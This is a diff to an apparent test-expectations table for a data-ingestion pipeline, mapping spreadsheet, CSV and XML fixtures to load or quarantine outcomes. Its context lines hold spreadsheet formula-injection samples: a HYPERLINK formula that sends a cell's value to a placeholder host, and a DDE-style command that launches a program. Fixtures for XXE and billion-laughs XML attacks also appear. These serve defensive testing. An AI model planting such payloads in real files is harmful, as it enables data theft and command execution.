@@ -97,7 +97,9 @@ EXPECTED = {
         staged=("period_start::VARCHAR, value", [("2022-01-01", 40.0)])),
     "cla_log/dimension_understates_rows.xlsx": Loaded(5, 5),
     "cla_log/rows_beyond_excel_limit.xlsx": Quarantined("sheet 'Sheet' has more than 1,048,576 rows"),
-    "cla_log/empty_sheet.xlsx": Quarantined("no header row naming this source's columns in the first 20 rows"),
+    "cla_log/empty_sheet.xlsx": Quarantined(
+        "cla_log/empty_sheet.xlsx: sheet 'Sheet' is empty in its first 20 rows, where the header must be; put the source's column names (docs/data-contract.md) in the "
+        "row above the data"),
     "cla_log/truncated.xlsx": Quarantined("not a readable .xlsx workbook"),
     "projects/legacy_xls_renamed.xlsx": Quarantined("this is a legacy .xls workbook renamed .xlsx"),
     # -- keys, dates, ranges, cross-field and cross-source rules, codes
@@ -170,6 +172,21 @@ EXPECTED = {
     "indicator_reports/formula_text_cells.csv": Loaded(4, 4, staged=("notes", [
         ('=HYPERLINK("http://example.invalid/?x="&A1,"ver")',), ("+52 1 555 0000",),
         ("@SUM(1+1)*cmd|' /C calc'!A0",), ("-2+3",)])),
+    # -- workbooks with several sheets, and formulas never computed (readers: sheets, formula cells)
+    "indicator_reports/two_data_sheets.xlsx": Loaded(
+        7, 5, ((4, "value", "greater_than_or_equal_to"), (5, "project_code", "unique"))),
+    "indicator_reports/summary_sheet_before_the_data.xlsx": Loaded(
+        2, 1, ((3, "indicator_code", "reference"),),
+        notes="not read: sheet 'Resumen': missing required column(s): period_start (or periodo_inicio/inicio_periodo), "
+              "period_end (or periodo_fin/fin_periodo)"),
+    "indicator_reports/no_sheet_with_the_columns.xlsx": Quarantined(
+        "indicator_reports/no_sheet_with_the_columns.xlsx: no visible sheet is a table of this source: sheet "
+        "'Instrucciones' has no header row: none of its first 20 rows names two or more of this source's columns "
+        "(project_code, indicator_code, period_start, period_end, ...); sheet 'Resumen': missing required column(s): "
+        "period_start (or periodo_inicio/inicio_periodo), period_end (or periodo_fin/fin_periodo); put the source's "
+        "column names (docs/data-contract.md) in the row above the data"),
+    "indicator_reports/formula_without_computed_value.xlsx": Loaded(
+        3, 2, ((4, "value", "malformed_row"),), notes="ignored unknown column(s): control"),
     # -- XML
     "iati/external_entity_xxe.xml": Quarantined("line 2 declares a DTD"),
     "iati/billion_laughs.xml": Quarantined("line 2 declares a DTD"),
